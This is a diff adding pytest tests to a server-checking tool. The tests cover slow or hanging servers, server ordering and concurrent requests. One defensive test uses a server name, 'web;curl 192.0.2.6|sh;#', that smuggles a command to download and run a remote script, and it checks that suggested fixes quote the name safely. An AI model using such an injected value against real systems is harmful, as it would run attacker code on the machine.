@@ -4,16 +4,20 @@
 
 from __future__ import annotations
 
+import shlex
 import socket
+import threading
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from mandos.check import asking, rehearsal, server_view
+from mandos.check import asking, boot_time, rehearsal, server_view, view_findings
 from mandos.check.asking import ALL_TIME, Asker, Image
 from mandos.check.chain import Chain, Wanted
-from mandos.check.findings import Verdict, shown
+from mandos.check.findings import Finding, Verdict, shown
+from mandos.check.rehearsal import Outcome
 from mandos.check.server_view import UnknownRequestError
 from mandos.check.servers import Server
 from mandos.errors import MachineError
@@ -68,19 +72,98 @@ def test_text_for_a_terminal() -> None:
     assert shown("a\x1b[2Jb\n\u202ec\x9bd ü") == "a\\x1b[2Jb \\u202ec\\x9bd ü"
 
 
-def test_many_slow_servers(monkeypatch: pytest.MonkeyPatch) -> None:
+class Link:
+    """Servers that give a view at once, and the password slowly; the clock goes on meanwhile."""
+
+    def __init__(self, monkeypatch: pytest.MonkeyPatch, views: dict[int, dict[str, Any]]) -> None:
+        self.now = 0.0
+        self.asked: list[int] = []
+        self._views = views
+        monkeypatch.setattr(server_view, "ask", lambda server, *_: views[server.address[1]])
+        monkeypatch.setattr(boot_time, "last_boot", lambda: None)
+        monkeypatch.setattr(rehearsal, "fetch", self._fetch)
+
+    def _fetch(
+        self,
+        _tree: Path,
+        _options: object,
+        way: tuple[int, Any],
+        _greeting: bytes,
+        limit: float,
+    ) -> Outcome:
+        self.asked.append(way[1][1])
+        self.now += limit
+        return Outcome(b"", "hung", "", limit, asked=True)
+
+    def ask(self, servers: Sequence[Server]) -> list[Finding]:
+        """The findings about these servers."""
+        asker = Asker(IMAGE, (), count_as_boot=False, clock=lambda: self.now)
+        return list(asker.ask_all(servers))
+
+
+WAITS = {"enabled": True, "approved_by_default": True, "approval_delay": 120}
+
+
+def test_servers_that_hang(monkeypatch: pytest.MonkeyPatch) -> None:
     """Those that are left when the time is over are not asked, and are no reason to fail."""
-    now = 0.0
+    number = int(ALL_TIME / asking.FETCH_TIME) + 2
+    servers = [Server(str(one), socket.AF_INET, (f"192.0.2.{one}", one)) for one in range(number)]
+    link = Link(monkeypatch, {one: {"enabled": True} for one in range(number)})
+    found = [finding.verdict for finding in link.ask(servers)]
+    assert found.count(Verdict.BROKEN) == number - 2
+    assert found.count(Verdict.NOT_SURE) == 2
+    assert link.asked == list(range(number - 2))
+
+
+def test_servers_that_promise_a_long_wait(monkeypatch: pytest.MonkeyPatch) -> None:
+    """They come after those that answer at once, wherever they were found."""
+    servers = [Server(str(one), socket.AF_INET, (f"192.0.2.{one}", one)) for one in range(4)]
+    link = Link(monkeypatch, {0: WAITS, 1: WAITS, 2: WAITS, 3: {"enabled": True}})
+    link.ask(servers)
+    assert link.asked[:2] == [3, 0]
+
+
+def test_one_address_with_many_servers(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Its second server waits for the first ones of all others."""
+    hosts = ("192.0.2.1", "192.0.2.1", "192.0.2.1", "192.0.2.2")
+    servers = [Server(str(one), socket.AF_INET, (host, one)) for one, host in enumerate(hosts)]
+    link = Link(monkeypatch, {one: {"enabled": True} for one in range(4)})
+    link.ask(servers)
+    assert link.asked == [0, 3, 1, 2]
+
+
+def test_views_are_asked_for_at_the_same_time(monkeypatch: pytest.MonkeyPatch) -> None:
+    """None of many servers answers before all are asked."""
+    all_asked = threading.Barrier(len(SERVERS))
 
     def ask(*_: object) -> dict[str, Any]:
-        nonlocal now
-        now += ALL_TIME / 2
+        all_asked.wait(60)
         raise server_view.UnreachedError("no answer in time")
 
     monkeypatch.setattr(server_view, "ask", ask)
-    found = list(Asker(IMAGE, (), count_as_boot=False, clock=lambda: now).ask_all(SERVERS))
-    assert [finding.verdict for finding in found] == [Verdict.BROKEN] * 2 + [Verdict.NOT_SURE] * 2
-    assert "was not asked" in found[-1].text
+    found = list(Asker(IMAGE, (), count_as_boot=False).ask_all(SERVERS))
+    assert [finding.verdict for finding in found] == [Verdict.BROKEN] * len(SERVERS)
+    assert not all_asked.broken
+
+
+def test_server_that_gives_no_password_was_never_found_alive(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Its word that it has never seen this machine does not count: anybody can say so."""
+    link = Link(monkeypatch, {0: {"enabled": True}})
+    asker = Asker(IMAGE, (), count_as_boot=False, clock=lambda: link.now)
+    list(asker.ask_all(SERVERS[:1]))
+    assert asker.unchecked == []
+
+
+@pytest.mark.parametrize("view", [{}, {"enabled": True, "approval_delay": 1e9}])
+def test_name_that_is_a_command(view: dict[str, Any]) -> None:
+    """A cure that an administrator copies runs nothing else."""
+    name = "web;curl 192.0.2.6|sh;#"
+    finding = view_findings.judged("server", {"name": name, **view}, "6.1")
+    assert finding.cure
+    words = shlex.split(finding.cure)
+    assert name in words
 
 
 def test_last_words_are_cut_off() -> None:
